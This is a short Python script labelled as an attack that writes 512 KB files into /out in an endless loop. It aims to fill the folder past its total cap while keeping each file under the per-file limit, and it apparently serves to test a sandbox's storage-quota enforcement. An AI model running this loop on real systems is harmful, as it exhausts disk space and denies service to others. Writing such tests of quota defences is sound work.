# Attack: fill the output folder past its cap, in many files each under the per-file limit.
import time

i = 0
while True:
    with open(f"/out/f{i}.bin", "wb") as f:
        f.write(b"x" * (512 * 1024))
    i += 1
    time.sleep(0.01)
